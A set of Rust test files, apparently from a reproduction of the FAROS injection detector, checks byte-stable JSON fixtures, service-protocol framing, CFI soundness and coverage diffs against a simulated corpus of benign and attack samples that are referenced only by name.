//! recordings; tooling diffs reports), so they must be *byte-stable*
//! across refactors, not merely round-trippable.
//!
//! The fixtures live in `tests/fixtures/`. If an intentional format change
//! invalidates them, regenerate with:
//!
//! ```sh
//! FAROS_REGEN_GOLDEN=1 cargo test --test golden_roundtrip
//! ```
//!
//! and review the resulting diff like any other API change.

use faros_repro::corpus::attacks;
use faros_repro::faros::{Faros, FarosReport, Policy};
use faros_repro::obs::trace::{FlightRecorder, TraceCategory, TraceEvent};
use faros_repro::replay::{record, record_and_replay, Recording};
use faros_repro::support::json::JsonValue;
use std::path::{Path, PathBuf};

const BUDGET: u64 = 20_000_000;

fn fixture_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests").join("fixtures").join(name)
}

/// Compares `actual` against the checked-in fixture, or rewrites the
/// fixture when `FAROS_REGEN_GOLDEN` is set.
fn check_golden(name: &str, actual: &str) {
    let path = fixture_path(name);
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "missing fixture {} ({e}); regenerate with FAROS_REGEN_GOLDEN=1",
            path.display()
        )
    });
    assert_eq!(
        actual,
        expected,
        "serialized {name} drifted from the golden fixture; if the format \
         change is intentional, regenerate with FAROS_REGEN_GOLDEN=1 and \
         review the diff"
    );
}

#[test]
fn report_json_is_byte_stable_and_lossless() {
    let sample = attacks::process_hollowing();
    let mut faros = Faros::new(Policy::paper());
    record_and_replay(&sample.scenario, BUDGET, &mut faros).unwrap();
    let report = faros.report();

    let json = report.to_json().unwrap();
    check_golden("report_process_hollowing.json", &json);

    // Lossless: the parsed fixture equals the freshly computed report.
    let restored = FarosReport::from_json(&json).unwrap();
    assert_eq!(report, restored);
}

#[test]
fn report_fixture_parses_and_is_flagged() {
    // The checked-in fixture itself (not just this build's serialization)
    // must stay parseable — it stands in for reports archived by analysts
    // under earlier builds.
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        return; // fixtures are being rewritten by the sibling tests
    }
    let text = std::fs::read_to_string(fixture_path("report_process_hollowing.json"))
        .expect("fixture must exist; regenerate with FAROS_REGEN_GOLDEN=1");
    let report = FarosReport::from_json(&text).unwrap();
    assert!(report.attack_flagged());
    assert!(!report.detections.is_empty());
}

#[test]
fn capability_check_json_is_byte_stable_and_lossless() {
    use faros_repro::analyze::CapabilityCrossCheck;
    use faros_repro::support::json::{FromJson, ToJson};

    // The pipeline-produced capability cross-check is the wire format
    // the truth-table gate and the service verdicts ride on; pin the
    // laundering sample's check (one impossible capability on the
    // victim, one exercised recipe on the accomplice, witness chains on
    // every static report) byte for byte.
    let sample = faros_repro::corpus::laundering::capability_laundering();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let job =
        faros::analyze_recording(&sample.scenario, &recording, &faros::AnalysisConfig::default())
            .unwrap();
    let caps = &job.report.capabilities;
    assert!(caps.injection_suspected());
    assert!(caps.reports.iter().all(|r| r.caps.len() == r.witnesses.len()));

    let json = caps.to_json_value().to_pretty();
    check_golden("capability_check_laundering.json", &json);

    let restored = CapabilityCrossCheck::from_json_value(&JsonValue::parse(&json).unwrap()).unwrap();
    assert_eq!(caps, &restored);
}

#[test]
fn recording_json_is_byte_stable_and_lossless() {
    let sample = attacks::reverse_tcp_dns();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();

    let json = recording.to_json().unwrap();
    check_golden("recording_reverse_tcp_dns.json", &json);

    let restored = Recording::from_json(&json).unwrap();
    assert_eq!(recording, restored);
}

/// A small hand-built trace covering every event shape the exporter emits:
/// a process-name meta record, a syscall span, instants with args, and a
/// parked-syscall completion.
fn smoke_trace() -> FlightRecorder {
    let mut rec = FlightRecorder::new(16);
    rec.record(TraceEvent::process_name(4, "loader.exe"));
    rec.record(
        TraceEvent::instant(0, 4, 1, TraceCategory::Module, "module_loaded")
            .arg("module", "ntdll.fdl")
            .arg("base", "0x80000000"),
    );
    rec.record(TraceEvent::begin(10, 4, 1, TraceCategory::Syscall, "NtCreateFile"));
    rec.record(
        TraceEvent::end(25, 4, 1, TraceCategory::Syscall, "NtCreateFile")
            .arg("status", "Success"),
    );
    rec.record(
        TraceEvent::instant(30, 4, 1, TraceCategory::Sched, "context_switch")
            .arg("to", "8:2"),
    );
    rec.record(
        TraceEvent::instant(42, 8, 2, TraceCategory::Taint, "alert")
            .arg("kind", "tainted-control-transfer"),
    );
    rec
}

#[test]
fn chrome_trace_json_is_byte_stable_and_round_trips() {
    let rec = smoke_trace();
    let json = rec.to_chrome_json();
    check_golden("trace_smoke.json", &json);

    // Round-trip: the export re-parses, and parse -> pretty-print is a
    // fixed point, so the bytes are canonical.
    let v = JsonValue::parse(&json).unwrap();
    let events = v.get("traceEvents").and_then(JsonValue::as_array).unwrap();
    assert_eq!(events.len(), rec.len());
    assert_eq!(v.to_pretty(), json.trim_end());
}

#[test]
fn trace_fixture_parses_with_balanced_spans() {
    // The checked-in fixture itself must stay loadable by the in-tree
    // parser — it stands in for traces archived from earlier builds.
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        return; // fixtures are being rewritten by the sibling tests
    }
    let text = std::fs::read_to_string(fixture_path("trace_smoke.json"))
        .expect("fixture must exist; regenerate with FAROS_REGEN_GOLDEN=1");
    let v = JsonValue::parse(&text).unwrap();
    let events = v.get("traceEvents").and_then(JsonValue::as_array).unwrap();
    assert_eq!(events.len(), 6);
    let count = |ph: &str| {
        events
            .iter()
            .filter(|e| e.get("ph").and_then(JsonValue::as_str) == Some(ph))
            .count()
    };
    assert_eq!(count("B"), count("E"), "unbalanced spans in fixture");
    assert_eq!(count("M"), 1);
    assert!(count("i") >= 3);
}

#[test]
fn recording_fixture_replays_to_the_same_verdict() {
    // An archived recording must stay replayable: load the checked-in
    // fixture and confirm the attack is still detected from it.
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        return; // fixtures are being rewritten by the sibling tests
    }
    let text = std::fs::read_to_string(fixture_path("recording_reverse_tcp_dns.json"))
        .expect("fixture must exist; regenerate with FAROS_REGEN_GOLDEN=1");
    let recording = Recording::from_json(&text).unwrap();
    let sample = attacks::reverse_tcp_dns();
    let mut faros = Faros::new(Policy::paper());
    faros_repro::replay::replay(&sample.scenario, &recording, BUDGET, &mut faros).unwrap();
    assert!(faros.report().attack_flagged());
}
