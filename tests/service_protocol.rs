//! Golden-file tests for the detonation-service wire protocol, plus
//! malformed-input coverage at the frame and payload layers.
//!
//! The framed request/response JSON is a load-bearing interface: analysts
//! script against a long-running `faros-cli serve`, so the wire shapes
//! must stay *byte-stable* across refactors. One fixture pins every
//! request variant, one pins every response variant. If an intentional
//! format change invalidates them, regenerate with:
//!
//! ```sh
//! FAROS_REGEN_GOLDEN=1 cargo test --test service_protocol
//! ```
//!
//! and review the resulting diff like any other API change.

use faros_repro::service::protocol::{decode_request, decode_response, MAX_FRAME};
use faros_repro::service::{
    read_frame, write_frame, FrameError, JobSpec, Request, Response,
};
use faros_repro::support::json::{JsonValue, ToJson};
use std::path::{Path, PathBuf};

fn fixture_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests").join("fixtures").join(name)
}

/// Compares `actual` against the checked-in fixture, or rewrites the
/// fixture when `FAROS_REGEN_GOLDEN` is set.
fn check_golden(name: &str, actual: &str) {
    let path = fixture_path(name);
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "missing fixture {} ({e}); regenerate with FAROS_REGEN_GOLDEN=1",
            path.display()
        )
    });
    assert_eq!(
        actual,
        expected,
        "serialized {name} drifted from the golden fixture; if the wire \
         change is intentional, regenerate with FAROS_REGEN_GOLDEN=1 and \
         review the diff"
    );
}

/// Every request variant the protocol knows, in a fixed order.
fn all_requests() -> Vec<Request> {
    vec![
        Request::Ping,
        Request::Submit(JobSpec::Scenario { name: "process_hollowing".into() }),
        Request::Submit(JobSpec::Recording {
            json: r#"{"scenario":"demo","net_log":{"events":[]},"instructions":0,"clean_exit":true}"#.into(),
        }),
        Request::Status { id: 7 },
        Request::Wait { id: 7 },
        Request::Stats,
        Request::Shutdown { drain: true },
        Request::Shutdown { drain: false },
        Request::Metrics,
        Request::Health,
        Request::Trace { tail: 16 },
    ]
}

/// A representative of every response variant, in a fixed order. Variants
/// carrying rich payloads (job views, stats) are covered structurally by
/// the service tests; here a default-shaped value pins the envelope.
fn all_responses() -> Vec<Response> {
    use faros_repro::service::{ServiceStats, FailureKind, JobFailure, JobResult, JobStatus, JobView};
    vec![
        Response::Pong,
        Response::Submitted { id: 7 },
        Response::QueueFull { capacity: 64 },
        Response::ShuttingDown,
        Response::Job(JobView {
            id: 7,
            label: "process_hollowing".into(),
            status: JobStatus::Queued,
        }),
        Response::Job(JobView {
            id: 8,
            label: "teamviewer_v209".into(),
            status: JobStatus::Done(JobResult {
                report_json: "{}".into(),
                instructions: 42,
                flagged: false,
                ..JobResult::default()
            }),
        }),
        Response::Job(JobView {
            id: 9,
            label: "ghost".into(),
            status: JobStatus::Failed(JobFailure {
                kind: FailureKind::InvalidSpec,
                detail: "unknown scenario `ghost`".into(),
            }),
        }),
        Response::UnknownJob { id: 404 },
        Response::Stats(ServiceStats::default()),
        Response::Shutdown(ServiceStats::default()),
        Response::Metrics(faros_repro::obs::metrics::MetricsSnapshot::default()),
        // A health verdict evaluated from a crafted stats snapshot, so the
        // fixture pins the SLO rules' wire rendering, not just the envelope.
        Response::Health(faros_repro::service::health::evaluate(
            &ServiceStats {
                submitted: 5,
                completed: 4,
                failed: 1,
                live_workers: 4,
                workers_spawned: 5,
                workers_replaced: 1,
                trace_events: 100,
                trace_dropped: 2,
                deadline_kills: 1,
                ..ServiceStats::default()
            },
            64,
        )),
        Response::Trace {
            events: vec![faros_repro::obs::trace::TraceEvent::instant(
                1234,
                1,
                0,
                faros_repro::obs::trace::TraceCategory::Service,
                "deadline-exceeded",
            )],
            dropped: 3,
        },
        Response::Error { message: "frame of 100 bytes truncated".into() },
    ]
}

#[test]
fn request_wire_format_is_byte_stable_and_lossless() {
    let requests = all_requests();
    let doc = JsonValue::Array(requests.iter().map(ToJson::to_json_value).collect());
    check_golden("service_requests.json", &doc.to_pretty());

    // Lossless: every compact serialization decodes back to its variant.
    for req in &requests {
        let restored = decode_request(&req.to_json_value().to_compact()).unwrap();
        assert_eq!(req, &restored);
    }
}

#[test]
fn response_wire_format_is_byte_stable_and_lossless() {
    let responses = all_responses();
    let doc = JsonValue::Array(responses.iter().map(ToJson::to_json_value).collect());
    check_golden("service_responses.json", &doc.to_pretty());

    for resp in &responses {
        let restored = decode_response(&resp.to_json_value().to_compact()).unwrap();
        assert_eq!(resp, &restored);
    }
}

#[test]
fn checked_in_fixtures_decode_under_this_build() {
    // The fixtures themselves (not just this build's serialization) must
    // stay decodable — they stand in for clients scripted against earlier
    // builds.
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        return; // fixtures are being rewritten by the sibling tests
    }
    let requests = std::fs::read_to_string(fixture_path("service_requests.json"))
        .expect("fixture must exist; regenerate with FAROS_REGEN_GOLDEN=1");
    let doc = JsonValue::parse(&requests).unwrap();
    let entries = doc.as_array().expect("fixture is an array");
    assert_eq!(entries.len(), all_requests().len());
    for entry in entries {
        decode_request(&entry.to_compact()).expect("archived request decodes");
    }

    let responses = std::fs::read_to_string(fixture_path("service_responses.json"))
        .expect("fixture must exist; regenerate with FAROS_REGEN_GOLDEN=1");
    let doc = JsonValue::parse(&responses).unwrap();
    let entries = doc.as_array().expect("fixture is an array");
    assert_eq!(entries.len(), all_responses().len());
    for entry in entries {
        decode_response(&entry.to_compact()).expect("archived response decodes");
    }
}

#[test]
fn profile_report_wire_format_is_byte_stable() {
    // The profiler's JSON is part of the analyst interface (it rides
    // `FarosReport` and `faros-cli profile --json`), so its wire shape is
    // pinned like the protocol frames. The input is built from synthetic
    // samples — pure data, no replay — so the fixture is deterministic by
    // construction.
    use faros_repro::obs::prof::{ModuleLayout, ProcessSamples, ProfileReport};
    use std::collections::BTreeMap;

    let mut functions = BTreeMap::new();
    functions.insert(0x40_0000, "entry".to_string());
    functions.insert(0x40_0040, "decrypt_payload".to_string());
    let module = ModuleLayout {
        name: "app.exe".to_string(),
        base: 0x40_0000,
        limit: 0x40_1000,
        functions,
    };
    let mut blocks = BTreeMap::new();
    blocks.insert(0x40_0000, 10u64); // entry
    blocks.insert(0x40_0048, 90u64); // inside decrypt_payload
    blocks.insert(0x7f_0000, 25u64); // outside every module -> [anon]
    let samples = vec![ProcessSamples {
        pid: 4,
        process: "app.exe".to_string(),
        blocks,
        modules: vec![module],
    }];
    let report = ProfileReport::build(samples);
    check_golden("profile_report.json", &(report.to_json_value().to_pretty() + "\n"));

    // Lossless round-trip through the wire shape.
    let parsed = JsonValue::parse(&report.to_json_value().to_pretty()).unwrap();
    use faros_repro::support::json::FromJson;
    assert_eq!(ProfileReport::from_json_value(&parsed).unwrap(), report);
}

#[test]
fn malformed_payloads_decode_to_structured_errors() {
    // Payload-layer damage: every case must be a structured decode error,
    // never a panic.
    let cases = [
        "",
        "not json at all",
        "[]",
        "42",
        "{}",
        r#"{"type":"warp-core"}"#,
        r#"{"type":"submit"}"#,
        r#"{"type":"status"}"#,
        r#"{"type":"status","id":"seven"}"#,
        r#"{"type":"shutdown"}"#,
        r#"{"type":"trace"}"#,
        r#"{"type":"trace","tail":"many"}"#,
    ];
    for case in cases {
        assert!(
            decode_request(case).is_err(),
            "hostile payload {case:?} must be rejected, not accepted"
        );
        assert!(decode_response(case).is_err());
    }
}

#[test]
fn frame_layer_rejects_damage_without_panicking() {
    // A healthy frame round-trips through an in-memory pipe.
    let mut buf = Vec::new();
    write_frame(&mut buf, "hello").unwrap();
    let mut cursor = &buf[..];
    assert_eq!(read_frame(&mut cursor).unwrap().as_deref(), Some("hello"));
    assert_eq!(read_frame(&mut cursor).unwrap(), None, "clean EOF after the frame");

    // Truncated mid-prefix and mid-payload.
    let mut cursor = &buf[..2];
    assert!(matches!(read_frame(&mut cursor), Err(FrameError::Truncated { .. })));
    let mut cursor = &buf[..6];
    assert!(matches!(read_frame(&mut cursor), Err(FrameError::Truncated { .. })));

    // Oversized length prefix: refused before any allocation happens.
    let huge = (MAX_FRAME + 1).to_le_bytes();
    let mut cursor = &huge[..];
    assert!(matches!(read_frame(&mut cursor), Err(FrameError::TooLarge(_))));

    // Payload bytes that are not UTF-8.
    let mut bad = Vec::new();
    bad.extend_from_slice(&2u32.to_le_bytes());
    bad.extend_from_slice(&[0xff, 0xfe]);
    let mut cursor = &bad[..];
    assert!(matches!(read_frame(&mut cursor), Err(FrameError::Malformed(_))));

    // A frame larger than the cap cannot be written either.
    let oversized = "x".repeat(MAX_FRAME as usize + 1);
    let mut sink = Vec::new();
    assert!(matches!(write_frame(&mut sink, &oversized), Err(FrameError::TooLarge(_))));
    assert!(sink.is_empty(), "nothing written for a refused frame");
}
