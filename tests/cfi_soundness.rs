//! The CFI-layer differential checks.
//!
//! Two claims, both testable against the whole corpus:
//!
//! 1. **Soundness on benign code** (zero false positives): across every
//!    non-attack sample — benign software, non-injecting malware, and
//!    all twenty JIT workloads — the dynamic CFI cross-check raises zero
//!    violations. Every observed `ret` lands call-preceded, every
//!    resolved `call reg`/`jmp reg` stays inside its resolved target
//!    set, and every unresolved one lands on a known function entry (or
//!    legally escapes modeled code, the JIT caveat).
//! 2. **The reuse truth table**: each ROP/JOP sample raises at least one
//!    CFI violation while every injected-byte signal (taint confluence,
//!    coverage diff) stays silent — proving the CFI layer detects the
//!    attack class the rest of FAROS cannot see — and the benign
//!    dense-indirect foils raise none.

use faros::{analyze_recording, AnalysisConfig};
use faros_repro::analyze;
use faros_repro::corpus::{reuse, sample_registry};
use faros_repro::replay::{record, replay, CfiMonitor, Scenario as _};
use std::collections::BTreeSet;

const BUDGET: u64 = 20_000_000;

#[test]
fn benign_corpus_raises_zero_cfi_violations() {
    let mut edges_checked = 0u64;
    let mut samples_run = 0usize;
    for sample in sample_registry() {
        if sample.category.is_attack() {
            continue;
        }
        samples_run += 1;
        let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
        let mut monitor = CfiMonitor::new();
        replay(&sample.scenario, &recording, BUDGET, &mut monitor).unwrap();
        let images = analyze::image_map(
            sample.scenario.programs().iter().map(|(p, i)| (p.as_str(), i.clone())),
        );
        let report =
            analyze::cfi::check(&monitor.into_processes(), &images, &BTreeSet::new());
        assert!(
            !report.violation_found(),
            "{}: benign sample tripped the CFI check: {:?}",
            sample.scenario.name(),
            report.violations,
        );
        edges_checked += report.stats.edges_checked;
    }
    // Vacuousness floors: the property must have exercised real corpus
    // breadth and real transfer volume. (Most benign corpus programs use
    // direct control flow; the dense-indirect foils, the plugin host and
    // the evasion samples supply the checked-edge volume, while kernel
    // sites and JIT escapes are correctly skipped.)
    assert!(samples_run >= 100, "only {samples_run} non-attack samples ran");
    assert!(edges_checked >= 20, "only {edges_checked} edges were checked");
}

#[test]
fn reuse_attacks_trip_cfi_and_nothing_else() {
    for sample in reuse::reuse_attack_samples() {
        let name = sample.scenario.name().to_string();
        let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
        let job =
            analyze_recording(&sample.scenario, &recording, &AnalysisConfig::default())
                .unwrap();
        let report = &job.report;
        // The injected-byte signals must stay silent: no byte of attacker
        // code exists, let alone executes.
        assert!(!report.attack_flagged(), "{name}: taint confluence fired on pure reuse");
        assert!(
            !report.coverage_suspicious(),
            "{name}: coverage diff fired — reuse executes only image-backed code",
        );
        // The CFI cross-check is the one signal that sees it.
        assert!(report.cfi_suspicious(), "{name}: no CFI violation raised");
        assert!(report.cfi.stats.violations >= 1);
    }
}

#[test]
fn net_assembled_chain_violations_carry_the_taint_fusion_bit() {
    let sample = reuse::rop_net_chain();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let job = analyze_recording(&sample.scenario, &recording, &AnalysisConfig::default())
        .unwrap();
    let report = &job.report;
    assert!(report.cfi_suspicious());
    assert!(
        report.cfi.violations.iter().any(|v| v.tainted),
        "chain words are byte-for-byte network copies; the popped return \
         targets must carry netflow taint: {:?}",
        report.cfi.violations,
    );
    assert!(report.cfi.stats.tainted_violations >= 1);
    // The local-chain variant, by contrast, violates untainted.
    let local = reuse::rop_pivot_chain();
    let (recording, _) = record(&local.scenario, BUDGET).unwrap();
    let job =
        analyze_recording(&local.scenario, &recording, &AnalysisConfig::default()).unwrap();
    assert!(job.report.cfi_suspicious());
    assert!(job.report.cfi.violations.iter().all(|v| !v.tainted));
}

#[test]
fn benign_reuse_foils_stay_clean_through_the_full_pipeline() {
    for sample in reuse::reuse_benign_samples() {
        let name = sample.scenario.name().to_string();
        let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
        let job =
            analyze_recording(&sample.scenario, &recording, &AnalysisConfig::default())
                .unwrap();
        let report = &job.report;
        assert!(!report.attack_flagged(), "{name}: false taint flag");
        assert!(!report.coverage_suspicious(), "{name}: false coverage flag");
        assert!(!report.cfi_suspicious(), "{name}: false CFI flag: {:?}", report.cfi.violations);
        // Not vacuous: the foils are *dense* in indirect transfers.
        assert!(
            report.cfi.stats.edges_checked >= 5,
            "{name}: only {} edges checked",
            report.cfi.stats.edges_checked,
        );
    }
}
