//! The static-vs-dynamic coverage truth table.
//!
//! Mirrors the detection truth table of the end-to-end tests, but for the
//! `faros-analyze` cross-check instead of the taint verdict: every
//! injection scenario must execute at least one basic block no loaded
//! module's static CFG accounts for, every non-injecting family variant
//! must execute none, and the JIT applets are the *only* benign exception
//! (dynamically materialized code is exactly what a JIT emits). The static
//! linter side of the table: every legitimate corpus image is W^X-clean
//! with zero error-severity findings, while every carved attack payload
//! image draws at least one.

use faros_repro::analyze;
use faros_repro::corpus::{attacks, dll, families, jit, Sample};
use faros_repro::faros::{Faros, Policy};
use faros_repro::replay::{record, replay, BlockCoverage, Scenario as _};

const BUDGET: u64 = 20_000_000;

/// Records the sample, replays it with the block-coverage plugin, and
/// diffs the executed blocks against the static CFGs of the sample's own
/// program images.
fn coverage_for(sample: &Sample) -> analyze::CoverageReport {
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let mut blocks = BlockCoverage::new();
    replay(&sample.scenario, &recording, BUDGET, &mut blocks).unwrap();
    let images = analyze::image_map(
        sample
            .scenario
            .programs()
            .iter()
            .map(|(path, image)| (path.as_str(), image.clone())),
    );
    analyze::diff(&blocks.into_processes(), &images)
}

/// Pins the corpus-wide `unresolved-indirect` residue to an exact,
/// per-site-justified set. VSA folds jump-table loads from *read-only*
/// image data (see `vsa::tests::masked_index_table_load_enumerates_the_table`),
/// so every site left here is unresolvable from the image alone, not a
/// missed fold:
///
/// * `gadget.exe` — `call ebp`, pointer received over the network at
///   runtime (the tainted-function-pointer evasion sample);
/// * `cleanptr.exe` — `call ebp`, pointer produced by a hash walk over
///   the *kernel's* export table, another module's runtime memory;
/// * `host.exe` / `dropper.exe` — `call ebp`, pointer from a hash walk
///   over a loaded DLL's export table (same cross-module dependence);
/// * `renderer.exe` — `jmp ebx`, the JOP dispatcher's gadget table lives
///   in writable scratch memory (unresolvable *by design*: that is what
///   the CFI function-entry claim is for);
/// * `switchboard.exe` — `call ebx`, the benign callback table is also
///   built at runtime in writable memory;
/// * `smcbench.exe` — the patch loop's `call ebp` re-enters a routine the
///   program instantiated into a runtime RWX allocation (the benign SMC
///   sample), so the target exists in no module image. The *first*
///   `call ebp`, right after `mov ebp, imm`, folds via dataflow.
///
/// The `analyze --corpus` gate pins the same totals
/// (`GATE_UNRESOLVED_BASELINE`/`GATE_UNRESOLVED_AFTER` in `faros_cli.rs`);
/// this test pins the membership so a new unresolved site cannot hide
/// behind an unchanged count.
#[test]
fn unresolved_sites_are_exactly_the_justified_set() {
    use std::collections::BTreeSet;
    let mut leftover: BTreeSet<String> = BTreeSet::new();
    for sample in faros_repro::corpus::sample_registry() {
        for (path, image) in sample.scenario.programs() {
            for f in analyze::StaticReport::build(path, image)
                .findings
                .iter()
                .filter(|f| f.kind == analyze::FindingKind::UnresolvedIndirect)
            {
                leftover.insert(format!("{} {}", f.module, f.detail));
            }
        }
    }
    let expected: BTreeSet<String> = [
        "C:/cleanptr.exe `call ebp` has no statically resolvable target",
        "C:/dropper.exe `call ebp` has no statically resolvable target",
        "C:/gadget.exe `call ebp` has no statically resolvable target",
        "C:/host.exe `call ebp` has no statically resolvable target",
        "C:/renderer.exe `jmp ebx` has no statically resolvable target",
        "C:/smcbench.exe `call ebp` has no statically resolvable target",
        "C:/switchboard.exe `call ebx` has no statically resolvable target",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    assert_eq!(leftover, expected);
}

#[test]
fn every_injection_scenario_executes_unaccounted_blocks() {
    for sample in attacks::all_injecting_samples() {
        use faros_repro::replay::Scenario as _;
        let report = coverage_for(&sample);
        assert!(
            report.injection_suspected(),
            "{}: injected code must execute outside every module's static CFG\n{report}",
            sample.scenario.name(),
        );
        let suspicious = report.suspicious_processes();
        assert!(
            suspicious.iter().any(|p| !p.unaccounted.is_empty()),
            "{}: expected >=1 unaccounted block in the victim",
            sample.scenario.name(),
        );
    }
}

#[test]
fn family_variants_execute_only_charted_code() {
    let rows: Vec<_> = families::malware_rows()
        .into_iter()
        .chain(families::benign_rows())
        .collect();
    for family in rows {
        let sample = families::build_family_sample(&family, 0, 1);
        let report = coverage_for(&sample);
        assert!(
            !report.injection_suspected(),
            "{}: non-injecting family must execute only image-backed code\n{report}",
            family.name,
        );
    }
}

#[test]
fn benign_plugin_host_is_fully_charted() {
    let report = coverage_for(&dll::plugin_host());
    assert!(!report.injection_suspected(), "{report}");
}

#[test]
fn jit_applets_are_the_only_benign_exception() {
    // A JIT's entire business is materializing code at runtime; the
    // coverage check flags all of them, which is why it is an advisory
    // signal and the taint verdict stays the detector of record.
    for sample in jit::jit_workloads() {
        use faros_repro::replay::Scenario as _;
        let report = coverage_for(&sample);
        assert!(
            report.injection_suspected(),
            "{}: JIT-emitted code is by definition statically unaccounted",
            sample.scenario.name(),
        );
    }
}

#[test]
fn corpus_images_lint_clean_and_payloads_do_not() {
    // Every image the corpus ships as a legitimate program is W^X-clean by
    // construction and must draw zero error-severity findings.
    let mut scenarios: Vec<Sample> = attacks::all_injecting_samples();
    scenarios.extend(jit::jit_workloads());
    scenarios.push(dll::plugin_host());
    scenarios.push(dll::dropped_dll_attack());
    for family in families::malware_rows().into_iter().chain(families::benign_rows()) {
        scenarios.push(families::build_family_sample(&family, 0, 1));
    }
    for sample in &scenarios {
        for (path, image) in sample.scenario.programs() {
            let errors: Vec<_> = analyze::lint_image(path, image)
                .into_iter()
                .filter(|f| f.severity == analyze::Severity::Error)
                .collect();
            assert!(
                errors.is_empty(),
                "{path}: legitimate corpus image must lint clean, got {errors:?}"
            );
        }
    }

    // Every carved attack payload image draws at least one W^X finding.
    for (name, image) in attacks::payload_images() {
        let findings = analyze::lint_image(&name, &image);
        assert!(
            findings
                .iter()
                .any(|f| f.kind == analyze::FindingKind::WxSection),
            "{name}: RWX payload image must draw a W^X finding"
        );
    }
}

#[test]
fn coverage_attaches_to_the_faros_report() {
    let sample = attacks::reflective_dll_inject();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let mut faros = Faros::new(Policy::paper());
    replay(&sample.scenario, &recording, BUDGET, &mut faros).unwrap();
    let mut report = faros.report();

    let mut blocks = BlockCoverage::new();
    replay(&sample.scenario, &recording, BUDGET, &mut blocks).unwrap();
    let images = analyze::image_map(
        sample
            .scenario
            .programs()
            .iter()
            .map(|(path, image)| (path.as_str(), image.clone())),
    );
    let coverage = analyze::diff(&blocks.into_processes(), &images);
    report.attach_coverage(&coverage);

    assert!(report.attack_flagged());
    assert!(report.coverage_suspicious());
    let table = report.to_table();
    assert!(table.contains("Unaccounted"));

    // The coverage section round-trips through the JSON report.
    let json = report.to_json().unwrap();
    let restored = faros_repro::faros::FarosReport::from_json(&json).unwrap();
    assert_eq!(report, restored);
}
