//! Replay-fidelity tests: divergence detection, recording tampering, and
//! the stock trace plugin over the real attack corpus.

use faros_repro::corpus::attacks;
use faros_repro::kernel::net::NetEvent;
use faros_repro::replay::{record, replay, PluginManager, ReplayError, TraceEvent, TracePlugin};

const BUDGET: u64 = 20_000_000;

#[test]
fn tampered_recording_is_detected_as_divergence() {
    let sample = attacks::reflective_dll_inject();
    let (mut recording, _) = record(&sample.scenario, BUDGET).unwrap();

    // An analyst (or attacker) edits the recorded flow to point elsewhere:
    // the replayed guest still connects to the original address, so the
    // fabric must flag the mismatch instead of silently proceeding.
    for event in &mut recording.net_log.events {
        if let NetEvent::Connect { flow, .. } = event {
            flow.src_port = 9999;
        }
    }
    let mut sink = faros_repro::kernel::NullObserver;
    let err = replay(&sample.scenario, &recording, BUDGET, &mut sink)
        .expect_err("tampered recording must not replay cleanly");
    assert!(matches!(err, ReplayError::Diverged(_)), "{err}");
}

#[test]
fn truncated_recording_diverges_or_changes_behavior() {
    let sample = attacks::reverse_tcp_dns();
    let (mut recording, live) = record(&sample.scenario, BUDGET).unwrap();
    // Drop the payload delivery: the loader will block forever waiting for
    // bytes that never arrive (the run must not falsely reproduce).
    recording
        .net_log
        .events
        .retain(|e| !matches!(e, NetEvent::Rx { .. }));
    let mut sink = faros_repro::kernel::NullObserver;
    match replay(&sample.scenario, &recording, BUDGET, &mut sink) {
        Ok(outcome) => {
            assert_ne!(
                outcome.machine.console().len(),
                live.machine.console().len(),
                "a truncated recording cannot reproduce the original run"
            );
        }
        Err(ReplayError::Diverged(_)) => {} // also acceptable
        Err(other) => panic!("unexpected error: {other}"),
    }
}

#[test]
fn trace_plugin_captures_the_attack_timeline() {
    let sample = attacks::reflective_dll_inject();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let mut manager = PluginManager::new();
    manager.register(Box::new(TracePlugin::new()));
    replay(&sample.scenario, &recording, BUDGET, &mut manager).unwrap();
    let plugin = manager.take("trace").unwrap();
    // Downcasting through Plugin isn't exposed; re-run standalone instead.
    drop(plugin);
    let mut trace = TracePlugin::new();
    replay(&sample.scenario, &recording, BUDGET, &mut trace).unwrap();
    let events = trace.into_events();

    // The timeline tells the §II attack story in order: loader created →
    // payload downloaded → victim created → cross-process copy → victim exit.
    let idx = |pred: &dyn Fn(&TraceEvent) -> bool| {
        events
            .iter()
            .position(pred)
            .unwrap_or_else(|| panic!("event missing from timeline"))
    };
    let loader_created = idx(&|e| {
        matches!(e, TraceEvent::ProcessCreated { name, .. } if name == "inject_client.exe")
    });
    let rx = idx(&|e| matches!(e, TraceEvent::NetRx { .. }));
    let victim_created = idx(&|e| {
        matches!(e, TraceEvent::ProcessCreated { name, .. } if name == "notepad.exe")
    });
    let injection = idx(&|e| matches!(e, TraceEvent::CrossProcessCopy { .. }));
    let victim_exit = idx(&|e| {
        matches!(e, TraceEvent::ProcessExited { name, .. } if name == "notepad.exe")
    });
    assert!(loader_created < rx);
    assert!(rx < victim_created);
    assert!(victim_created < injection);
    assert!(injection < victim_exit);

    // The loader's self-deletion shows in the syscall trace.
    assert!(events.iter().any(|e| matches!(
        e,
        TraceEvent::Syscall { sysno: faros_repro::kernel::Sysno::NtDeleteFile, .. }
    )));
}
