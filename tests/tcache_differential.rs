//! Interpreter-vs-cache differential over representative corpus samples.
//!
//! The translation cache is pure mechanism: decode-once, block chaining,
//! fused taint plans, elision of provably-no-op flow batches. None of it
